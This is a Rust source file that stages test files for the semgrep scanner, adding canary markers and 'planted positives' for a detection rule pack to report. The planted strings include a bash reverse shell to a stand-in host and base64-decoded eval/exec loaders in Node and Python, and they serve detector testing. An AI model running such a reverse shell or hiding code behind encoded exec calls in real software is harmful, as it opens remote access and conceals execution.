//! How semgrep wants its files staged: canaries that rules of our pack report, and planted positives.

use crate::staging::{Language, StagingProfile, profile::Suppression};
use skillgate_contract::Provider;

/// The content of planted files, which rules of the pack must report. None of it works, and none of
/// it is ever run.
const PLANTED: [(Language, &str); 6] = [
    (Language::JavaScript, PLANTED_NODE),
    (Language::TypeScript, PLANTED_NODE),
    (Language::Tsx, PLANTED_NODE),
    (Language::Python, "import base64\nexec(base64.b64decode(\"cGxhbnRlZA==\"))\n"),
    (Language::Shell, PLANTED_SHELL),
    (Language::Text, PLANTED_SHELL),
];
const PLANTED_NODE: &str = "eval(Buffer.from(\"cGxhbnRlZA==\", \"base64\").toString());\n";
const PLANTED_SHELL: &str = "bash -i >& /dev/tcp/planted.example.invalid/4444 0>&1\n";

/// The tool of the provider of the same name.
#[derive(Debug, Clone, Copy)]
pub struct Semgrep;

impl StagingProfile for Semgrep {
    fn provider(&self) -> Provider {
        Provider::Semgrep
    }

    fn canary(&self, language: Language, _mark: &str, id: &str) -> String {
        let code = code_canary(language, id).map(|line| line + "\n").unwrap_or_default();
        format!("\n{code}{}\n", text_canary(language, id))
    }

    fn planted(&self) -> &'static [(Language, &'static str)] {
        &PLANTED
    }

    fn suppressions(&self) -> &'static [Suppression] {
        &[Suppression { word: b"nosem", letter: 3 }]
    }

    fn steering_files(&self) -> &'static [&'static str] {
        &[".semgrepignore"]
    }
}

/// The call that our own rule reports, in the languages that semgrep parses.
fn code_canary(language: Language, id: &str) -> Option<String> {
    match language {
        Language::JavaScript | Language::TypeScript | Language::Tsx => {
            Some(format!(";__vs_canary(\"{id}\");"))
        }
        Language::Python => Some(format!("__vs_canary(\"{id}\")")),
        Language::Shell => Some(format!("__vs_canary {id}")),
        Language::Markdown | Language::Template | Language::Text => None,
    }
}

/// The line that our own text rule reports, in every language: `__vs_canary_text_f000001`.
fn text_canary(language: Language, id: &str) -> String {
    let word = format!("__vs_canary_text_{id}");
    match language {
        Language::JavaScript | Language::TypeScript | Language::Tsx => format!("// {word}"),
        Language::Python | Language::Shell => format!("# {word}"),
        Language::Markdown | Language::Template => format!("<!-- {word} -->"),
        Language::Text => word,
    }
}
